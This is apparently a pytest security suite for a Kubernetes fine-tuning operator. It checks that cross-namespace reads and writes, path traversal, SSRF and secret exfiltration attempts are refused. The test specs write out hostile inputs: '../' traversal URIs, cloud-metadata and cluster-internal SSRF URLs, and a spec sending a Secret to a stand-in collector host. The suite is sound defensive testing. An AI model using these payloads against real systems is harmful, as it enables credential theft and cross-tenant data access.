"""Attacks by a tenant of namespace A on namespace B, done the way a tenant would: YAML through the Kubernetes
API, and A's own store key against the real object store. Each must be refused with a clear reason (the field,
the URI or Secret, the rule), with no pod run for it, nothing of B read or written, and no secret value in any
Event, status, ConfigMap or log."""

from __future__ import annotations

import io
import zlib

import pytest
from minio import Minio
from minio.error import S3Error

from tests.conftest import wait_until
from tests.security.conftest import SECRET_VALUE, VICTIM_DATA, Stage, secret_key


def refused(stage: Stage, plural: str, name: str, *words: str) -> dict:
    """The object ends Invalid, Failed or Pending for the reason given in ``words``; no pod, Job or Deployment ran."""
    decided = ("Invalid", "Failed", "Pending")
    status = stage.status_when(plural, name, lambda s: s.get("phase") in decided and bool(s.get("message")))
    for word in words:
        assert word in status["message"], status["message"]
    assert stage.pods_and_jobs(stage.a) == [], "nothing ran for a refused spec"
    return status


def untouched(stage: Stage, before: list[str]) -> None:
    assert stage.b_objects() == before, "nothing was written under B's prefixes"
    assert SECRET_VALUE not in stage.everything_said(stage.a)


# -- specs naming B's data ----------------------------------------------------------------------------------


def test_a_dataset_cannot_read_another_namespaces_upload(stage: Stage) -> None:
    before = stage.b_objects()
    stage.apply(f"""
        apiVersion: finetune.dev/v1alpha1
        kind: Dataset
        metadata: {{name: steal-upload}}
        spec:
          source: {{uri: "s3://finetune/uploads/{stage.b}/private.jsonl"}}
          format: chat
        """)
    status = refused(stage, "datasets", "steal-upload", "spec.source.uri", f"uploads/{stage.b}/private.jsonl", "outside this namespace's storage")
    assert status["phase"] == "Invalid"
    untouched(stage, before)


def test_a_finetunejob_cannot_train_from_another_namespaces_model(stage: Stage) -> None:
    stage.apply(f"""
        apiVersion: finetune.dev/v1alpha1
        kind: FineTuneJob
        metadata: {{name: steal-model}}
        spec:
          baseModel: {{uri: "s3://finetune/jobs/{stage.b}/tuned-1/model"}}
          dataset: anything
          resources: {{gpus: 0}}
        """)
    refused(stage, "finetunejobs", "steal-model", "spec.baseModel.uri", f"jobs/{stage.b}/tuned-1/model", "outside this namespace's storage")


def test_a_finetunejob_cannot_write_into_another_namespace(stage: Stage) -> None:
    before = stage.b_objects()
    stage.apply(f"""
        apiVersion: finetune.dev/v1alpha1
        kind: FineTuneJob
        metadata: {{name: overwrite-b}}
        spec:
          baseModel: {{uri: "s3://finetune/models/tiny"}}
          dataset: anything
          resources: {{gpus: 0}}
          output: {{uri: "s3://finetune/jobs/{stage.b}/tuned-1"}}
        """)
    refused(stage, "finetunejobs", "overwrite-b", "spec.output.uri", "output is written there only")
    untouched(stage, before)


def test_a_shared_model_prefix_cannot_be_written(stage: Stage) -> None:
    stage.apply("""
        apiVersion: finetune.dev/v1alpha1
        kind: FineTuneJob
        metadata: {name: poison-catalogue}
        spec:
          baseModel: {uri: "s3://finetune/models/tiny"}
          dataset: anything
          resources: {gpus: 0}
          output: {uri: "s3://finetune/models/tiny"}
        """)
    refused(stage, "finetunejobs", "poison-catalogue", "spec.output.uri", "outside this namespace's storage")


def test_an_endpoint_cannot_serve_another_namespaces_adapter(stage: Stage) -> None:
    stage.apply(f"""
        apiVersion: finetune.dev/v1alpha1
        kind: InferenceEndpoint
        metadata: {{name: serve-b}}
        spec:
          baseModel: {{uri: "s3://finetune/models/tiny"}}
          adapters: [{{name: theirs, uri: "s3://finetune/jobs/{stage.b}/tuned-1/model"}}]
          resources: {{gpus: 0, cpu: "1", memory: 2Gi}}
        """)
    refused(stage, "inferenceendpoints", "serve-b", "spec.adapters[0].uri", f"jobs/{stage.b}/tuned-1/model")


def test_an_evaluation_cannot_read_another_namespaces_model(stage: Stage) -> None:
    stage.apply(f"""
        apiVersion: finetune.dev/v1alpha1
        kind: Evaluation
        metadata: {{name: eval-b}}
        spec:
          models: [{{name: theirs, baseModel: "s3://finetune/jobs/{stage.b}/tuned-1/model"}}]
          dataset: anything
          graders: [{{name: em, type: exact_match}}]
        """)
    refused(stage, "evaluations", "eval-b", "spec.models[0].baseModel", "outside this namespace's storage")


@pytest.mark.parametrize("key", ["uploads/{b}/../{b}/private.jsonl", "uploads/{a}/../{b}/private.jsonl", "uploads/{a}//x.jsonl"])
def test_a_path_that_climbs_out_of_a_prefix_is_refused(stage: Stage, key: str) -> None:
    name = f"climb-{zlib.crc32(key.encode()) % 10_000}"
    stage.apply(f"""
        apiVersion: finetune.dev/v1alpha1
        kind: Dataset
        metadata: {{name: {name}}}
        spec:
          source: {{uri: "s3://finetune/{key.format(a=stage.a, b=stage.b)}"}}
          format: chat
        """)
    refused(stage, "datasets", name, "spec.source.uri", "may not be empty, '.' or '..'")


def test_a_pvc_path_cannot_leave_its_claim(stage: Stage) -> None:
    stage.apply("""
        apiVersion: finetune.dev/v1alpha1
        kind: InferenceEndpoint
        metadata: {name: pvc-escape}
        spec:
          baseModel: {uri: "pvc://models/../../etc"}
          resources: {gpus: 0, cpu: "1", memory: 2Gi}
        """)
    refused(stage, "inferenceendpoints", "pvc-escape", "spec.baseModel.uri", "without '.' or '..'")


# -- Secrets and URLs ------------------------------------------------------------------------------------------


def test_a_spec_cannot_send_a_secret_its_owner_did_not_allow(stage: Stage) -> None:
    """A Secret the attacker cannot read (on a real cluster one they may only name) would go as a bearer token
    to a URL of their choice: refused until the Secret's owner labels it finetune.dev/allow-use=true."""
    stage.apply("""
        apiVersion: finetune.dev/v1alpha1
        kind: Dataset
        metadata: {name: exfiltrate}
        spec:
          source:
            uri: "https://collector.example.com/upload"
            secretRef: {name: ci-token}
          format: chat
        """)
    status = refused(stage, "datasets", "exfiltrate", "Secret ci-token", "finetune.dev/allow-use=true")
    assert status["phase"] == "Pending"
    assert SECRET_VALUE not in stage.everything_said(stage.a)


def test_a_judge_cannot_take_a_secret_without_consent(stage: Stage) -> None:
    stage.apply("""
        apiVersion: finetune.dev/v1alpha1
        kind: Evaluation
        metadata: {name: judge-exfiltrate}
        spec:
          models: [{name: base, baseModel: "s3://finetune/models/tiny"}]
          dataset: anything
          graders:
            - name: judge
              type: llm_judge
              rubric: anything
              judge: {url: "https://collector.example.com/v1", model: m, apiKeySecretRef: {name: ci-token}}
        """)
    stage.status_when("evaluations", "judge-exfiltrate", lambda s: bool(s.get("message")))
    refused(stage, "evaluations", "judge-exfiltrate", "Secret ci-token")
    assert SECRET_VALUE not in stage.everything_said(stage.a)


@pytest.mark.parametrize("url", [
    "https://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "https://127.0.0.1:8080/admin",
    "https://10.0.0.1/internal.jsonl",
    "https://kubernetes.default.svc/api",
    "https://[::1]/x.jsonl",
])  # fmt: skip
def test_a_fetch_cannot_reach_internal_addresses(stage: Stage, url: str) -> None:
    name = f"ssrf-{zlib.crc32(url.encode()) % 10_000}"
    stage.apply(f"""
        apiVersion: finetune.dev/v1alpha1
        kind: Dataset
        metadata: {{name: {name}}}
        spec:
          source: {{uri: "{url}"}}
          format: chat
        """)
    refused(stage, "datasets", name, "spec.source.uri", "FINETUNE_ALLOW_PRIVATE_URLS")


def test_a_plain_http_source_is_refused_by_the_api_server(stage: Stage) -> None:
    result = stage.kubectl("apply", "-f", "-", input="""
apiVersion: finetune.dev/v1alpha1
kind: Dataset
metadata: {name: plain-http}
spec:
  source: {uri: "http://169.254.169.254/latest/meta-data/"}
  format: chat
""")
    assert result.returncode != 0 and "spec.source.uri" in result.stderr, result.stderr
    assert stage.pods_and_jobs(stage.a) == []


def test_a_judge_cannot_be_pointed_at_the_clusters_own_services(stage: Stage) -> None:
    stage.apply("""
        apiVersion: finetune.dev/v1alpha1
        kind: Evaluation
        metadata: {name: judge-ssrf}
        spec:
          models: [{name: base, baseModel: "s3://finetune/models/tiny"}]
          dataset: anything
          graders:
            - name: judge
              type: llm_judge
              rubric: anything
              judge: {url: "http://finetune-operator-metrics.finetune-system.svc:8080/v1", model: m}
        """)
    refused(stage, "evaluations", "judge-ssrf", "spec.graders[0].judge.url", "cluster-internal")


# -- the store key --------------------------------------------------------------------------------------------


def _denied(call) -> str:
    try:
        call()
    except S3Error as e:
        return e.code
    return "allowed"


def test_a_namespaces_store_key_reaches_only_its_own_prefixes(stage: Stage) -> None:
    """The attacker reads A's key from A's Secret (``edit`` may) and goes to the store directly."""
    access, secret = secret_key(stage, stage.a)
    assert (access, secret) == stage.keys_a
    mine = Minio(stage.store.endpoint, access_key=access, secret_key=secret, secure=False, region="us-east-1")
    bucket, b = stage.store.bucket, stage.b
    before = stage.b_objects()
    own = f"uploads/{stage.a}/mine.jsonl"
    mine.put_object(bucket, own, io.BytesIO(b"{}\n"), 3)
    assert mine.get_object(bucket, own).read() == b"{}\n", "its own prefix: read and write"
    stage.store.client().put_object(bucket, "models/readme.txt", io.BytesIO(b"shared"), 6)
    assert mine.get_object(bucket, "models/readme.txt").read() == b"shared", "the shared catalogue: read"
    attempts = {
        "read B's upload": lambda: mine.get_object(bucket, f"uploads/{b}/private.jsonl").read(),
        "stat B's model": lambda: mine.stat_object(bucket, f"jobs/{b}/tuned-1/model/manifest.json"),
        "list B's jobs": lambda: list(mine.list_objects(bucket, prefix=f"jobs/{b}/", recursive=True)),
        "list the bucket": lambda: list(mine.list_objects(bucket, recursive=True)),
        "write into B": lambda: mine.put_object(bucket, f"jobs/{b}/tuned-1/model/manifest.json", io.BytesIO(b"x"), 1),
        "delete B's file": lambda: mine.remove_object(bucket, f"uploads/{b}/private.jsonl"),
        "write the catalogue": lambda: mine.put_object(bucket, "models/tiny/config.json", io.BytesIO(b"x"), 1),
        "write outside every prefix": lambda: mine.put_object(bucket, "anywhere.txt", io.BytesIO(b"x"), 1),
        "make a bucket": lambda: mine.make_bucket("a-bucket-of-my-own"),
    }
    outcomes = {what: _denied(call) for what, call in attempts.items()}
    assert outcomes == dict.fromkeys(attempts, "AccessDenied"), outcomes
    assert stage.b_objects() == before
    assert stage.store.client().get_object(bucket, f"uploads/{b}/private.jsonl").read() == VICTIM_DATA


def test_a_namespace_with_an_unscoped_store_key_runs_nothing(stage: Stage) -> None:
    """With scoped keys required, a store Secret the admin did not make for this namespace (here the attacker's
    hand-made one) starts no pod; the status says what the admin runs."""
    import kubernetes

    core = kubernetes.client.CoreV1Api(stage.kube_api.client())
    ns = stage.a
    saved = core.read_namespaced_secret("finetune-storage", ns)
    core.delete_namespaced_secret("finetune-storage", ns)
    try:
        result = stage.kubectl("create", "secret", "generic", "finetune-storage", "--from-literal=accessKey=x", "--from-literal=secretKey=y")
        assert result.returncode == 0, result.stderr
        stage.store.client().put_object(stage.store.bucket, f"uploads/{ns}/chat.jsonl", io.BytesIO(VICTIM_DATA), len(VICTIM_DATA))
        stage.apply(f"""
            apiVersion: finetune.dev/v1alpha1
            kind: Dataset
            metadata: {{name: unscoped}}
            spec:
              source: {{uri: "s3://finetune/uploads/{ns}/chat.jsonl"}}
              format: chat
            """)
        refused(stage, "datasets", "unscoped", "not scoped to this namespace", "storage_keys grant")
    finally:
        core.delete_namespaced_secret("finetune-storage", ns)
        saved.metadata.resource_version = None
        saved.metadata.uid = None
        saved.metadata.creation_timestamp = None
        core.create_namespaced_secret(ns, saved)


# -- serving --------------------------------------------------------------------------------------------------


def test_an_endpoint_admits_only_its_own_namespace_and_says_when_it_is_open(stage: Stage) -> None:
    """B's pods are not let in to A's endpoint (a NetworkPolicy, where the CNI enforces it), and an endpoint
    without a key says so in its status instead of quietly serving anyone."""
    stage.apply("""
        apiVersion: finetune.dev/v1alpha1
        kind: InferenceEndpoint
        metadata: {name: open-door}
        spec:
          baseModel: {uri: "s3://finetune/models/tiny"}
        """)
    status = stage.status_when("inferenceendpoints", "open-door", lambda s: any(c["type"] == "Authenticated" for c in s.get("conditions") or []))
    (authenticated,) = [c for c in status["conditions"] if c["type"] == "Authenticated"]
    assert (authenticated["status"], authenticated["reason"]) == ("False", "NoAPIKey")
    import kubernetes

    networking = kubernetes.client.NetworkingV1Api(stage.kube_api.client())
    def made() -> object:
        return next((p for p in networking.list_namespaced_network_policy(stage.a).items if p.metadata.name == "open-door-server"), None)

    policy = wait_until(made, "the endpoint's NetworkPolicy", timeout=90)
    (rule,) = policy.spec.ingress
    allowed = {peer.namespace_selector.match_labels["kubernetes.io/metadata.name"] for peer in rule._from}
    assert stage.a in allowed and stage.b not in allowed
    assert all(peer.pod_selector is None and peer.ip_block is None for peer in rule._from)
    assert stage.kubectl("delete", "inferenceendpoint", "open-door", "--wait=true").returncode == 0
    wait_until(lambda: not [o for o in stage.pods_and_jobs(stage.a) if "open-door" in o], "the endpoint's children to go", timeout=120)


# -- the Kubernetes API itself (a real control plane decides these) --------------------------------------------


def test_the_attacker_cannot_act_in_another_namespace_through_the_api(stage: Stage) -> None:
    if not stage.kube_api.real:
        pytest.skip("the project's own API server has no authorization; a real control plane (KUBEBUILDER_ASSETS) decides this")
    create = stage.kubectl("apply", "-f", "-", namespace=stage.b, input=f"""
apiVersion: finetune.dev/v1alpha1
kind: Dataset
metadata: {{name: planted, namespace: {stage.b}}}
spec:
  source: {{uri: "s3://finetune/uploads/{stage.b}/private.jsonl"}}
  format: chat
""")
    assert create.returncode != 0 and "forbidden" in create.stderr.lower(), create.stderr
    read = stage.kubectl("get", "secret", "b-token", "-o", "yaml", namespace=stage.b)
    assert read.returncode != 0 and "forbidden" in read.stderr.lower()
    stage.apply(f"""
        apiVersion: finetune.dev/v1alpha1
        kind: Dataset
        metadata: {{name: mine}}
        spec:
          source: {{uri: "s3://finetune/uploads/{stage.b}/private.jsonl"}}
          format: chat
        """)
    refused(stage, "datasets", "mine", "outside this namespace's storage")
    forged = stage.kubectl("patch", "dataset", "mine", "--subresource=status", "--type=merge", "-p", '{"status": {"phase": "Ready"}}')
    assert forged.returncode != 0 and "forbidden" in forged.stderr.lower(), "only the operator writes status"
